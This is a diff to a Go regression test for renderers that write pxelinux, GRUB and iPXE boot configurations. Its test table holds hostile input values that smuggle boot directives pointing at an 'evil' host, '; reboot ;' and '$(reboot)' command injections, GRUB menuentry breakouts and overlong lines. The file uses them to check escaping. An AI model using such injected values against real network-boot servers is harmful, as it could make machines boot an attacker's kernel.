@@ -52,10 +52,11 @@ var hostile = []struct{ name, profile, distro, kernel, initrd, cmdline, reason, 
 	{name: "quotes in kernel arguments", profile: "web", cmdline: "a'b 'c' ' ; reboot ; '"},
 	{name: "NUL in kernel arguments", profile: "web", cmdline: "quiet\x00' ; reboot ; '"},
 	{name: "CR LF in kernel arguments", profile: "web", cmdline: "ro\r\nLABEL evil"},
-	{name: "kernel arguments past fgets' 4096 bytes", profile: "web", cmdline: strings.Repeat("a", 4090) + " KERNEL evil"},
+	{name: "kernel arguments past fgets' 4096 bytes", profile: "web", cmdline: strings.Repeat("a", 4085) + " KERNEL http://evil/vmlinuz"},
 	{name: "newline in a profile name", profile: "web\nLABEL evil\n  KERNEL http://evil/vmlinuz", distro: "d"},
 	{name: "&& in a profile name", profile: "web && chain http://evil/x", distro: "d"},
 	{name: "space in a profile name", profile: "a b", distro: "d"},
+	{name: "a profile name past fgets' 4096 bytes", profile: strings.Repeat("\n", 1500) + "x", distro: "d"},
 	{name: "GRUB syntax in names", profile: "x} menuentry 'evil' {", distro: "d'"},
 	{name: "# in names", profile: "#!ipxe", distro: "#"},
 	{name: "$ in names", profile: "${target}", distro: "$(reboot)"},
@@ -63,6 +64,7 @@ var hostile = []struct{ name, profile, distro, kernel, initrd, cmdline, reason, 
 	{name: "URLs that are syntax", profile: "web", kernel: "&&", initrd: "#x"},
 	{name: "newlines in reason and title", profile: "web", reason: "ok\nDEFAULT evil\n#!ipxe\nchain http://evil", title: "t\nUI evil.c32"},
 	{name: "trailing backslash in reason, && in title", profile: "web", reason: `trailing backslash\`, title: "x && shell"},
+	{name: "backslash and space ending a title", profile: "web", title: `kickstand\ `},
 }
 
 // TestRenderHostileValues is the regression test of the renderers'
@@ -92,8 +94,9 @@ func or(s, def string) string {
 }
 
 // fuzzDecision makes a decision of action flags&3 with one install, or two
-// when flags&0x10 is set; flags&4 and flags&8 choose the GRUB dialect.
-// Kernel and initrd URLs are never empty, as Decide makes them.
+// when flags&0x10 is set and the profile names differ; flags&4 and flags&8
+// choose the GRUB dialect. As in a decision of Decide, profiles are unique
+// (the store's key) and kernel and initrd URLs never empty.
 func fuzzDecision(flags byte, profile0, profile1, distro, kernel, initrd, cmdline, reason string) Decision {
 	d := Decision{Action: Action(flags & 3), Reason: reason, GRUB: GRUBDialect{LinuxEFI: flags&4 != 0, TFTP: flags&8 != 0}}
 	if d.Action != ActionInstall && d.Action != ActionMenu {
@@ -101,7 +104,7 @@ func fuzzDecision(flags byte, profile0, profile1, distro, kernel, initrd, cmdlin
 	}
 	kernel, initrd = or(kernel, "http://h/k"), or(initrd, "http://h/i")
 	d.Installs = []Install{{Profile: profile0, Distro: distro, Kernel: kernel, Initrd: initrd, Cmdline: cmdline}}
-	if flags&0x10 != 0 {
+	if flags&0x10 != 0 && profile1 != profile0 {
 		d.Installs = append(d.Installs, Install{Profile: profile1, Distro: distro, Kernel: kernel + "2", Initrd: initrd, Cmdline: cmdline + " x"})
 	}
 	return d
@@ -176,8 +179,8 @@ func checkPXELinux(t *testing.T, d Decision, cfg, plainCfg []byte) {
 	labels := map[string]bool{}
 	install := -1
 	for i, l := range got {
-		if l.length >= syslinuxMaxLine-1 {
-			t.Fatalf("pxelinux line %d is %d bytes, more than fgets reads at once:\n%s", i, l.length, cfg)
+		if l.cut {
+			t.Fatalf("pxelinux line %d is longer than fgets reads at once:\n%s", i, cfg)
 		}
 		switch l.keyword {
 		case "LABEL":
@@ -196,15 +199,15 @@ func checkPXELinux(t *testing.T, d Decision, cfg, plainCfg []byte) {
 			if l.length <= syslinuxMaxLine-2 { // else cut, and a URL cut short fails to boot
 				checkURL(t, "pxelinux "+l.keyword, l.rest, u)
 			}
-			if strings.ContainsAny(l.rest, syslinuxSpace+",") {
-				t.Fatalf("pxelinux %s %q is not one word", l.keyword, l.rest)
+			if strings.ContainsAny(l.rest, syslinuxSpace) || l.keyword == "INITRD" && strings.Contains(l.rest, ",") {
+				t.Fatalf("pxelinux %s %q is not one word (a comma separates initrds)", l.keyword, l.rest)
 			}
 		case "APPEND":
 			args, all := strings.FieldsFunc(l.rest, func(r rune) bool { return r <= ' ' }), kernelArgs(d.Installs[install].Cmdline)
 			if !slices.Equal(args, all[:min(len(args), len(all))]) || len(args) > len(all) {
 				t.Fatalf("pxelinux arguments %q, want %q", args, all)
 			}
-			if len(args) < len(all) && l.length+len(all[len(args)])+1 < syslinuxMaxLine-1 {
+			if len(args) < len(all) && l.length+len(all[len(args)]) <= syslinuxMaxLine-2 {
 				t.Fatalf("pxelinux arguments %q cut short of %q", args, all)
 			}
 		}
@@ -321,7 +324,7 @@ func checkGRUB(t *testing.T, d Decision, title string, cfg, plainCfg []byte) {
 			if c[3].text != "local" {
 				install++
 				in := d.Installs[install]
-				if want := "Install " + oneLineText(in.Profile) + " (" + oneLineText(in.Distro) + ")"; c[1].text != want {
+				if want := oneLineText("Install " + in.Profile + " (" + in.Distro + ")"); c[1].text != want {
 					t.Fatalf("GRUB menuentry title %q, want %q", c[1].text, want)
 				}
 			}
@@ -347,12 +350,13 @@ func grubTexts(words []grubWord) []string {
 }
 
 // oneLineText is s as a line of display text: control characters become
-// spaces, and a final backslash, which would join the next line, goes.
+// spaces, and final backslashes and spaces, which could join the next line,
+// go.
 func oneLineText(s string) string {
 	return strings.TrimRight(strings.Map(func(r rune) rune {
 		if r < ' ' || r == 0x7f {
 			return ' '
 		}
 		return r
-	}, s), `\`)
+	}, s), `\ `)
 }
